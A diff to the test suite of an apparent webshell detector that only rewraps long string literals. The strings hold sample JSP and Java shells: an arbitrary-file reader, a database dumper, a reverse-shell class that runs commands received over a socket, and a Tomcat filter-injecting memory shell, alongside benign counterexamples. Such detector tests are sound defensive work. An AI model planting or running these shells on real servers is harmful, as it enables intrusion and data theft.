@@ -56,7 +56,8 @@ def test_fixed_status_command_is_not_an_interactive_shell():
 def test_browser_listing_and_reading_any_path():
     h = shell('<%@ page import="java.io.*"%><%\nString p = request.getParameter("f");\nif (p == null) p = "/";\n'
               'File f = new File(p);\nif (f.isDirectory()) { for (File x : f.listFiles()) out.print(x); }\n'
-              'else { FileInputStream in = new FileInputStream(f); int c; while ((c = in.read()) >= 0) out.write(c); }\n'
+              'else { FileInputStream in = new FileInputStream(f); int c; while ((c = in.read()) >= 0) '
+              'out.write(c); }\n'
               '%>')
     assert h.rule == "jsp.file-manager"
 
@@ -73,13 +74,15 @@ def test_database_dumper_with_credentials_in_the_page():
               'ResultSet rs = c.getMetaData().getTables(null, null, "%", null);\nList<String> ts = new ArrayList<>();\n'
               'while (rs.next()) ts.add(rs.getString(3));\nfor (String t : ts) {\n'
               'Writer w = new OutputStreamWriter(new FileOutputStream("/tmp/" + t + ".txt"));\n'
-              'ResultSet r = c.createStatement().executeQuery("select * from " + t);\nwhile (r.next()) w.write(r.getString(1));\n'
+              'ResultSet r = c.createStatement().executeQuery("select * from " + t);\nwhile (r.next()) '
+              'w.write(r.getString(1));\n'
               'w.close();\n}\n%>')
     assert h.rule == "jsp.db-dumper"
 
 
 def test_report_page_of_one_table_is_not_a_dumper():
-    benign('<%@ page import="java.sql.*"%><%\nConnection c = DriverManager.getConnection("jdbc:mysql://db/app", "u", "p");\n'
+    benign('<%@ page import="java.sql.*"%><%\nConnection c = DriverManager.getConnection("jdbc:mysql://db/app", '
+           '"u", "p");\n'
            'ResultSet r = c.createStatement().executeQuery("select * from orders");\n'
            'while (r.next()) out.print(r.getString(1));\n%>')
 
@@ -123,10 +126,13 @@ def test_java_source_with_dollar_brace_strings_is_read_as_a_class():
     # `"${tmp}"` in a Java string is not EL: the class (a reverse shell through a helper) is read as Java
     h = shell('import java.io.*;\nimport java.net.Socket;\npublic class C {\n'
               'static String run(String cmd) throws IOException {\n'
-              'return new String(Runtime.getRuntime().exec(cmd.replace("${tmp}", "/tmp")).getInputStream().readAllBytes());\n'
+              'return new String(Runtime.getRuntime().exec(cmd.replace("${tmp}", '
+              '"/tmp")).getInputStream().readAllBytes());\n'
               '}\npublic static void shell(String host, int port) throws IOException {\n'
-              'Socket s = new Socket(host, port);\nInputStream in = s.getInputStream();\nOutputStream out = s.getOutputStream();\n'
-              'byte[] b = new byte[4096];\nint a;\nwhile ((a = in.read(b)) != -1) out.write(run(new String(b, 0, a)).getBytes());\n'
+              'Socket s = new Socket(host, port);\nInputStream in = s.getInputStream();\nOutputStream out = '
+              's.getOutputStream();\n'
+              'byte[] b = new byte[4096];\nint a;\nwhile ((a = in.read(b)) != -1) out.write(run(new String(b, 0, '
+              'a)).getBytes());\n'
               '}\n}\n', "C.java")
     assert h.rule == "jsp.request-to-exec"
 
@@ -162,7 +168,8 @@ def test_page_registering_a_filter_in_the_container():
     h = shell('<%@ page import="org.apache.catalina.core.*,org.apache.tomcat.util.descriptor.web.*" %><%\n'
               'StandardContext ctx = (StandardContext) findContext(request);\nFilterDef d = new FilterDef();\n'
               'd.setFilterName("f"); d.setFilter(new Helper());\nctx.addFilterDef(d);\n'
-              'FilterMap m = new FilterMap(); m.setFilterName("f"); m.addURLPattern("/*");\nctx.addFilterMapBefore(m);\n%>')
+              'FilterMap m = new FilterMap(); m.setFilterName("f"); '
+              'm.addURLPattern("/*");\nctx.addFilterMapBefore(m);\n%>')
     assert h.rule == "jsp.memory-shell-injector"
 
 
@@ -207,5 +214,6 @@ def test_java_source_from_the_request_compiled():
 def test_class_loading_a_configured_plugin_class_is_not_a_shell():
     benign('package org.example.metrics;\nimport java.util.Map;\npublic class Client {\n'
            'public void setup(Context context) throws Exception {\n'
-           'Class<?> c = Class.forName(context.getParameter("senderClass"));\nsender = (Sender) c.getDeclaredConstructor().newInstance();\n'
+           'Class<?> c = Class.forName(context.getParameter("senderClass"));\nsender = (Sender) '
+           'c.getDeclaredConstructor().newInstance();\n'
            '}\n}\n', "Client.java")
